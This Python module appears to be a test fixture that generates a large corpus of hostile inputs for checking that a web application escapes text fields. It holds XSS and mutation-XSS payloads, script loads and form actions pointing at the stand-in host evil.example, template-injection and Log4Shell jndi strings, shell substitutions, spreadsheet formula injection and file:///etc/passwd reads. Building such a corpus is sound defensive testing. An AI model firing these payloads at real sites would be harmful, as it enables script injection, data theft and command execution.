"""Texts that want to become markup, by family.  Each of them goes into every field that takes text."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

RUN: Final = "alert('CANARY')"
EVIL: Final = "//evil.example"


def elements() -> Iterator[str]:
    """Elements that run or load something by themselves."""
    yield from (
        f"<script>{RUN}</script>", f"<ScRiPt src={EVIL}/x.js></sCrIpT>", f"<script >{RUN}</script >", f"<<script>{RUN}//<</script>",
        f"<script\t>{RUN}</script>", f"<script/x>{RUN}</script>", f"<script\x0c>{RUN}</script>", f"<script\n>{RUN}</script\n>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}", f"<script>{RUN}//", f"<SCRIPT SRC='{EVIL}/x.js'>",
        f"<script type=module>import '{EVIL}/x.js'</script>", "<script>\\u0061lert(1)</script>", f"<img src='https:{EVIL}/p.gif'>",
        f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src={EVIL}>",
        "<object data=data:text/html,x></object>", f"<embed src={EVIL}/x.swf>", f"<applet code=x archive={EVIL}/x.jar>",
        f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=preload as=script href={EVIL}/x>", f"<link rel=import href={EVIL}/x>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>", "<meta http-equiv=Set-Cookie content='a=b'>", "<meta charset=utf-7>",
        f"<base href={EVIL}/>", "<base target=x>", f"<style>@import '{EVIL}/x.css';</style>", "<style>*{display:none}</style>",
        f"<frameset><frame src={EVIL}></frameset>", f"<portal src={EVIL}>", f"<bgsound src={EVIL}>", f"<audio src={EVIL} autoplay>",
        f"<video poster={EVIL}/p.gif>", f"<picture><source srcset={EVIL}/p.gif><img></picture>", f"<img srcset='{EVIL}/p.gif 1x'>",
        f"<input type=image src={EVIL}/p.gif>", f"<track src={EVIL}>", f"<table background={EVIL}/p.gif>", "<marquee>x</marquee>",
        "<dialog open>x</dialog>", "<slot>x</slot>", "<custom-element>x</custom-element>", "<noembed><script>", "<xmp><script>",
    )  # fmt: skip


def handlers() -> Iterator[str]:
    """Elements with each kind of handler, written in each way."""
    tags = (
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "div",
        "a",
        "iframe",
        "form",
        "marquee",
        "object data=x",
    )
    events = (
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onpointerenter",
        "onanimationstart",
        "onbeforeinput",
        "onscrollend",
        "OnClIcK",
    )
    ways = (
        "<{} {}={}>",
        "<{}/{}={}>",
        "<{}\n{}='{}'>",
        '<{}\t{} = "{}">',
        "<{}\x0c{}=`{}`>",
        "<{} x='>' {}={}>",
        "<{} {}={} //",
        "<{}//{}={}>",
    )
    for number in range(60):
        tag, event, way = tags[number % 12], events[number % 10], ways[number % 8]
        yield way.format(tag, event, RUN if number % 3 else "&#97;lert(1)")


def attributes() -> Iterator[str]:
    """What leaves a quoted attribute, or an element that holds raw text."""
    for quote in ('"', "'", "`", "", "&quot;", "&#34;", "&#x22", "\u201d", "%22", '\\"'):
        yield f"{quote} onmouseover={quote}{RUN}"
        yield f"{quote}><script>{RUN}</script>"
    for name in ("style=position:fixed", f"formaction={EVIL}", f"ping={EVIL}", "autofocus onfocus=alert(1)", "accesskey=x onclick=alert(1)",
                 "srcdoc=x", "is=x", "popover", "contenteditable", f"action={EVIL}", "target=_blank", "id=pk-main", "name=pk_csrf"):  # fmt: skip
        yield f'" {name} x="'
    for tag in (
        "title",
        "textarea",
        "style",
        "script",
        "noscript",
        "option",
        "select",
        "table",
        "p",
        "a",
        "form",
        "main",
        "svg",
        "template",
        "iframe",
    ):
        yield f"</{tag}><script>{RUN}</script>"
    yield from ("--><script>alert(1)</script>", "--!><script>alert(1)</script>", "]]><script>alert(1)</script>", "?><script>alert(1)</script>",
                "*/alert(1)/*", "'-alert(1)-'", "\";alert(1);//", "</ScRiPt ><script>alert(1)</script>", "\\x3cscript\\x3e", "\n</p>\n<script>")  # fmt: skip


def foreign() -> Iterator[str]:
    """SVG, MathML and elements whose meaning changes when a page is parsed again."""
    yield from (
        f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
        f"<svg><set attributeName=href to='javascript:{RUN}'/></svg>", f"<svg><foreignObject><iframe onload={RUN}>", "<svg><style><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", f"<svg><image href={EVIL}/p.gif />", f"<svg><title><img src onerror={RUN}>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<math href='javascript:{RUN}'>x</math>",
        f"<math><mi//xlink:href='javascript:{RUN}'>x", f"<math><annotation-xml encoding=text/html><img src onerror={RUN}>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
        "<table><td><form></td><form>", "<plaintext>", "<!--", "<!-->", "<!--><img src onerror=alert(1)>-->", "<![CDATA[", "<![CDATA[><img src onerror=alert(1)>]]>",
        "<?php echo 1 ?>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY e 'y'>]>&e;", "<!ELEMENT", "</", "<", "</>", "<%", "<a<b>",
        "<a/href=javascript:alert(1)>x", "<button form=x formaction=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<image src=x onerror=alert(1)>",
        "<isindex action=javascript:alert(1)>", "<listing>&lt;img src onerror=alert(1)&gt;</listing>", f"<form action={EVIL}><input name=pk_csrf>",
        f"<button formaction={EVIL}>Go</button>", f"<div style='background:url({EVIL})'>x</div>", "<div style=width:expression(alert(1))>x</div>",
    )  # fmt: skip


def schemes() -> Iterator[str]:
    """Links by markup and by Markdown whose address is not one, in every spelling."""
    spellings = (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f" javascript:{RUN}",
        "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "javascript%3Aalert(1)", "javascript://%0aalert(1)", "\\javascript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)",
        "ｊavascript:alert(1)", "javas\u00adcript:alert(1)", "java\u200bscript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
        "jar:https://evil.example!/x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload=alert(1)>",
        "DATA:,x", "vbscript:msgbox(1)", "livescript:x", "file:///etc/passwd", "blob:https://x/1", "filesystem:https://x/1", "about:blank", "intent://x#Intent;end",
        "ms-msdt:/id", "chrome://settings", "ftp://evil.example/", "ws://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example\\share",
    )  # fmt: skip
    for number, spelling in enumerate(spellings):
        yield (
            f"<a href='{spelling}'>x</a>",
            f"[x]({spelling})",
            f"[x](<{spelling}>)",
            f"<{spelling}>",
        )[number % 4]
    yield from ("[ref]\n\n[ref]: javascript:alert(1)", "[x][1]\n\n[1]: <javascript:alert(1)> 'x'", "[x](https://evil.example/ \"' onmouseover='alert(1)\")",
                "[![x](https://tracker.example/p.gif)](javascript:alert(1))", "![x](https://tracker.example/p.gif)", "![x](javascript:alert(1))",
                "![x][p]\n\n[p]: https://tracker.example/p.gif", "![](//tracker.example/p.gif)", "<https://evil.example/\"onmouseover=\"alert(1)>")  # fmt: skip


def markdown() -> Iterator[str]:
    """Markdown that holds markup where it may be forgotten."""
    yield from (
        "```<script>\nalert(1)\n```\n</code></pre><script>alert(1)</script>", "| a | <script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
        "```\"onmouseover=alert(1)\nx\n```", "~~~ <b onclick=x>\nx\n~~~", "    </code><script>alert(1)</script>", "`</code><script>alert(1)</script>`",
        "# <img src onerror=alert(1)>", "> <iframe src=x>", "* <svg onload=alert(1)>", "1. <script>alert(1)</script>", "**<b onclick=alert(1)>**", "~~<s onclick=x>~~",
        "[<img src onerror=alert(1)>](https://x.example)", "[x](https://x.example/?a=<script>)", "[x](https://x.example/\u202e)", "\\<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&NewLine;<script>", "<details>\n\n<script>alert(1)</script>\n</details>",
        "|a|\n|-|\n|`|<script>|`|", "- [ ] <input onfocus=alert(1) autofocus>", "[^1]\n\n[^1]: <script>alert(1)</script>", "<div markdown=1>\n**x**\n</div>", "***\n<hr onclick=x>",
        "[" * 30 + "x" + "](y)" * 30, "*" * 150 + "<b>", "`" * 99 + "<script>", "> " * 60 + "<script>", "<" * 120,
    )  # fmt: skip


def templates() -> Iterator[str]:
    """What a template, a format, a shell or a table would fill in or run."""
    yield from (
        "{{ 7*7 }}{% set x = 1 %}{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}", "{{{x}}}", "${7*7} #{7*7} <%= 7*7 %>",
        "*{7*7} @{7*7} [[7*7]]", "{actor} {thing} {number} {name} {title}", "%s %(name)s {0}", "%n%n%n%x", "{0.__class__}", "{title!r:>9999999}", "$name ${name}",
        "{{constructor.constructor('alert(1)')()}}", "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\t=1", "${jndi:ldap://evil.example/x}", "$(id)", "`id`",
    )  # fmt: skip


def encodings() -> Iterator[str]:
    """Brackets in other clothes, and characters that browsers drop."""
    yield from (
        "＜script＞alert(1)＜/script＞", "﹤script﹥alert(1)", "‹script›alert(1)", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<\x00script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</script>", "<\ufeffscript>alert(1)</script>", "<s\u200bcript>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<\u212aeygen>",
        "\u202e<script>\u2066", "a\u2028b\u2029c\x0bd\x0ce", "\ud83d<script>".encode("utf-8", "replace").decode(), "\ufffd<script>alert(1)</script>",
        "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img\u3000src=x onerror=alert(1)>", "é<script>\u0301alert(1)</script>", "pk-new pk-page id=pk-main",
        "\x1b[31m<script>", "\x7f<script>", "<a\x85href=javascript:alert(1)>", "\u0131mg <ımg src=x onerror=alert(1)>", "&lt;&#x73;cript&gt;", "&amp;lt;script&amp;gt;",
    )  # fmt: skip


FAMILIES: Final = {
    family.__name__: tuple(dict.fromkeys(family()))
    for family in (elements, handlers, attributes, foreign, schemes, markdown, templates, encodings)
}
STRINGS: Final = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
